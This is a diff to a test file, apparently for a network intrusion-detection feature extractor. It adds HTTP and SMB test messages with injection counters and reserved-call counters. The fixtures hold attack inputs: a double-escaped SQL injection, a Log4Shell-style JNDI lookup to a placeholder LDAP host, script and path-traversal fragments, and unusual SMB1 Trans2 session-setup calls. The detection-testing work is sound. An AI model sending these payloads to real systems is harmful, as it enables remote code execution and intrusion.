@@ -104,7 +104,7 @@ GET = (
 GOT = {
     **{"http_gets": 1, "uri_length": 31, "uri_digits": 4 + 1, "uri_escapes": 1, "uri_marks": 2},
     **{"uri_depth": 4, "uri_parameters": 2, "uri_parents": 1, "http_lines": 5},
-    "http_address_hosts": 1,
+    **{"http_address_hosts": 1, "http_injections": 1},
 }
 
 
@@ -115,6 +115,34 @@ def status(line: bytes, port: int, columns: dict[str, float], protocol: int = TC
 WEB = [
     Message("get", GET, 8080, GOT | {"usual_port": 1}),
     Message("get elsewhere", GET, 4444, GOT | {"usual_port": -1}),
+    Message(
+        "injection in a target, escaped twice",
+        b"GET /x?id=1%2527%20or%201=1 HTTP/1.1\r\nUser-Agent: x\r\n\r\n",
+        80,
+        {
+            **{"http_gets": 1, "uri_length": 23, "uri_digits": 11, "uri_escapes": 3},
+            **{"uri_depth": 1, "uri_parameters": 2, "http_lines": 3, "usual_port": 1},
+            "http_injections": 1,
+        },
+    ),
+    Message(
+        "injection in a header line",
+        b"GET / HTTP/1.1\r\nUser-Agent: ${JNDI:ldap://192.0.2.1/a}\r\n\r\n",
+        80,
+        {
+            **{"http_gets": 1, "uri_length": 1, "uri_depth": 1, "http_lines": 3},
+            **{"usual_port": 1, "http_injections": 1},
+        },
+    ),
+    Message(
+        "what may stand in a header line, but in no target",
+        b"GET / HTTP/1.1\r\nUser-Agent: x\r\nX: <script> ../../ ' or 1\r\n\r\n",
+        80,
+        {
+            **{"http_gets": 1, "uri_length": 1, "uri_depth": 1, "http_lines": 4},
+            "usual_port": 1,
+        },
+    ),
     Message(
         "post without agent",
         b"POST /x HTTP/1.1\r\nHost: 1.2.3.example\r\n\r\na=b",
@@ -275,9 +303,12 @@ LINES = [
 # [MS-CIFS] 2.2.3.1, [MS-SMB2] 2.2.1, C706 12.6.
 
 
-def smb1(command: int, status: int = 0, body: bytes = b"") -> bytes:
-    head = b"\xffSMB" + struct.pack("<BIBH", command, status, 0x98, 0x4801) + bytes(20)
+def smb1(command: int, status: int = 0, body: bytes = b"", flags: int = 0x98) -> bytes:
+    head = b"\xffSMB" + struct.pack("<BIBH", command, status, flags, 0x4801) + bytes(20)
     return b"\0" + big(len(head + body), 3) + head + body
+
+
+SESSION_SETUP = b"\x0f" + bytes(28) + b"\x0e\0"  # 15 words, the last is the call
 
 
 def smb2(command: int, status: int = 0, flags: int = 0, body: bytes = b"") -> bytes:
@@ -306,6 +337,10 @@ WINDOWS = [
     Message("smb1 write", smb1(0x2F), 445, {"smb1_messages": 1, "smb_writes": 1}),
     Message("smb1 call", smb1(0x25, body=bind(0x367ABB81)), 445, {
         "smb1_messages": 1, "smb_calls": 1, "rpc_binds": 1, "rpc_admin_binds": 1}),
+    Message("smb1 call that no client makes", smb1(0x32, 0, SESSION_SETUP, 0x18), 445, {
+        "smb1_messages": 1, "smb_calls": 1, "smb_reserved_calls": 1}),
+    Message("smb1 continued call", smb1(0x33, 0, b"", 0x18), 445, {
+        "smb1_messages": 1, "smb_calls": 1, "smb_reserved_calls": 1}),
     Message("smb2 session", smb2(1, body=NTLM + NTLM), 445, {
         "smb2_messages": 1, "smb_sessions": 1, "ntlm_messages": 2}),
     Message("smb2 more to come", smb2(1, 0xC0000016, 1), 445, {
